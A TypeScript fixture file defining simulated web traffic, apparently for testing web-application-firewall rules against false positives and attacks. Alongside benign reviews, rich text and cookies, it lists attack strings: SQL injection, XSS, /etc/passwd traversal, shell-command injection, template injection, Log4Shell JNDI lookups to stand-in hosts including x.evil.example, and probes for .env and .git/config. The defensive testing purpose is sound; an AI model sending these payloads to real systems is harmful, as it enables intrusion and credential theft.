/** What clients of one sort put into their headers: the shares of requests with a Cookie, an own Referer, a token. */
export const SENDERS = {
  visitor: { cookie: 0.8, referer: 0.85, token: 0 },
  staff: { cookie: 1, referer: 0.95, token: 0 },
  guest: { cookie: 0.15, referer: 0, token: 0 },
  app: { cookie: 0, referer: 0, token: 0.9 },
  partner: { cookie: 0, referer: 0, token: 1 },
  machine: { cookie: 0, referer: 0, token: 0 },
} as const;

/** A sort of request. All of its rules match the same request. */
export interface Story {
  readonly sender: keyof typeof SENDERS;
  /** Left out: the user agent of the client. */
  readonly agent?: string;
  readonly method: string;
  /** `{n}` stands for a number and `{s}` for words with hyphens. */
  readonly paths: readonly string[];
  /** Each rule with the variable that it names: `ARGS:title`, `REQUEST_COOKIES:consent`, or an operator. */
  readonly rules: readonly (readonly [ruleId: string, key: string])[];
  /** Left out: `application/x-www-form-urlencoded` if the method has a body. */
  readonly contentType?: string;
  readonly texts: readonly string[];
}

const SHOP = ["/products/{n}", "/category/{s}", "/category/{s}/{n}", "/", "/blog/{s}", "/cart", "/help/{s}"];
const RICH_TEXT = [
  '<p>Our <strong>winter sale</strong> begins on Friday.</p><img src="/media/831.jpg" alt="a red scarf">',
  '<h2>How to wash wool</h2><ul><li>30 °C</li><li>no dryer</li></ul><a href="https://care.example/wool">Care</a>',
  '<table style="width:100%"><tr><td>S</td><td>34/36</td></tr></table><p>&nbsp;</p>',
  "<p>Copy <code>document.querySelector('#size')</code> into the theme.</p><hr/>",
  '<div class="note">Opening hours (Mon-Fri): 9-18; Sat: 10-14</div><br /><em>closed on Sundays</em>',
];
const PROSE = [
  "Great shoes -- would buy again",
  "it's 1 or 2 sizes too small, and the colour isn't #ff0000",
  "size 42/43 and not 44; order (2) came late",
  "I'd select the blue one from this range",
  "O'Brien & sons: \"the best of '79 and '80\"",
  "works with C++ && Java, command line too",
  "5 > 4 stars; delivery = 1 day",
];
const PASSWORDS = [
  "Tr0ub4dor&3'x",
  "b/ba>fPq'S",
  "hunter2--",
  'p@ss"w0rd<1',
  "A)>Ls;99",
  "l1ke(this)=or'that",
];
/** Texts of attacks: injections of SQL, script, traversal, shell, template and lookup. */
const INJECTIONS = [
  "1' AND 4821=4821-- kQzT",
  "-1) UNION ALL SELECT NULL,CONCAT(0x7171,user(),0x7171),NULL#",
  "1;SELECT PG_SLEEP(5)--",
  "x' OR SLEEP(5) AND 'a'='a",
  "1/**/ORDER/**/BY/**/12--",
  '"><svg onload=confirm(1)>',
  "<img src=q onerror=prompt(8)>",
  "../../../../../../etc/passwd",
  ";ping -c 3 198.51.100.4;",
  "$(sleep 5)",
  "{{7*191}}",
  "${jndi:ldap://198.51.100.77/o}",
];
const PROBES = ["/.git/config", "/.env", "/wp-login.php", "/phpmyadmin/", "/backup.sql", "/server-status"];
const MORE_PROBES = ["/admin/config.php", "/cgi-bin/test.cgi", "/actuator/env", "/vendor/.htaccess", "/old/"];

/** Rules that match legitimate requests, clients that repeat, crawlers, scanners and attacks. */
export const STORIES = {
  form: {
    sender: "visitor",
    method: "POST",
    paths: ["/products/{n}/reviews"],
    rules: [["942440", "ARGS:title"]],
    texts: PROSE,
  },
  "rich-text": {
    sender: "visitor",
    method: "POST",
    paths: ["/forum/topics/{n}/posts"],
    rules: [
      ["941320", "ARGS:content"],
      ["942430", "ARGS:content"],
      ["942130", "ARGS:content"],
    ],
    texts: RICH_TEXT,
  },
  search: {
    sender: "visitor",
    method: "GET",
    paths: ["/search"],
    rules: [["942110", "ARGS:q"]],
    texts: [
      '"wool socks" -cotton',
      "java database (jdbc)",
      "union jack t-shirt",
      "table lamp; drop shade",
      "a or b",
    ],
  },
  cookie: {
    sender: "visitor",
    method: "GET",
    paths: SHOP,
    rules: [
      ["942260", "REQUEST_COOKIES:consent"],
      ["942370", "REQUEST_COOKIES:consent"],
    ],
    texts: [
      "{v:'4',necessary:true,statistics:false,method:'explicit',stamp:'k8s/Aq0='}",
      '{"v":2,"necessary":true,"marketing":false,"at":"2026-11-02T10:11:12Z"}',
    ],
  },
  upload: {
    sender: "visitor",
    method: "POST",
    paths: ["/account/{n}/documents"],
    rules: [["920120", "FILES:file"]],
    contentType: "multipart/form-data; boundary=----form7f3a",
    texts: ["offer (2) v;3=signed.pdf", "John's scan; page=1.jpg", 'plan "final".docx'],
  },
  api: {
    sender: "app",
    agent: "ShopApp/5.2.1 (iPhone; iOS 26.1)",
    method: "POST",
    paths: ["/graphql"],
    rules: [
      ["942430", "ARGS:query"],
      ["932100", "ARGS:query"],
    ],
    contentType: "application/json",
    texts: [
      "query Cart($id: ID!) { cart(id: $id) { lines { sku qty price { amount } } } }",
      "mutation Add($sku: String!) { add(sku: $sku) { lines { sku qty } } }",
    ],
  },
  partner: {
    sender: "partner",
    agent: "python-requests/2.32.3",
    method: "POST",
    paths: ["/b2b/orders", "/b2b/orders/{n}"],
    rules: [["913101", "REQUEST_HEADERS:User-Agent"]],
    contentType: "application/json",
    texts: ["python-requests"],
  },
  "back-office": {
    sender: "staff",
    method: "POST",
    paths: ["/admin/articles/{n}/edit"],
    rules: [
      ["941320", "ARGS:body"],
      ["942430", "ARGS:body"],
    ],
    texts: RICH_TEXT,
  },
  campaign: {
    sender: "guest",
    method: "GET",
    paths: ["/l/{s}"],
    rules: [["931130", "ARGS:url"]],
    texts: ["https://partner.example/winter", "https://www.brand.example/shop?utm_source=mail"],
  },
  repeat: {
    sender: "guest",
    method: "GET",
    paths: ["/feed/export"],
    rules: [["942440", "ARGS:since"]],
    texts: ["2026-11-01 -- 2026-11-30"],
  },
  crawler: {
    sender: "machine",
    agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    method: "GET",
    paths: SHOP,
    rules: [["942260", "ARGS:filter"]],
    texts: ["color in ('red','blue')", "(price>=10) and (stock>0)"],
  },
  probe: {
    sender: "machine",
    agent: "Mozilla/5.0 zgrab/0.x",
    method: "GET",
    paths: [...PROBES, ...MORE_PROBES],
    rules: [
      ["930130", "REQUEST_FILENAME"],
      ["913100", "REQUEST_HEADERS:User-Agent"],
    ],
    texts: ["zgrab"],
  },
  exploit: {
    sender: "machine",
    method: "POST",
    paths: ["/products/{n}/reviews"],
    rules: [["944150", "ARGS:title"]],
    texts: ["${jndi:ldap://198.51.100.77/o}", "${${lower:j}ndi:dns://x.evil.example/a}"],
  },
  injection: {
    sender: "machine",
    method: "GET",
    paths: ["/search"],
    rules: [
      ["942100", "ARGS:q"],
      ["942190", "ARGS:q"],
    ],
    texts: INJECTIONS.slice(0, 5),
  },
  stuffing: {
    sender: "machine",
    method: "POST",
    paths: ["/account/login"],
    rules: [["942130", "ARGS:password"]],
    texts: PASSWORDS,
  },
  "deep-scan": {
    sender: "machine",
    method: "GET",
    paths: [...SHOP, "/search", "/account/login", "/products/{n}/reviews", "/api/v1/orders"],
    rules: [
      ["942100", "ARGS:id"],
      ["941100", "ARGS:q"],
      ["930100", "ARGS:file"],
      ["932100", "ARGS:url"],
    ],
    texts: INJECTIONS,
  },
} as const satisfies Record<string, Story>;

export type StoryName = keyof typeof STORIES;
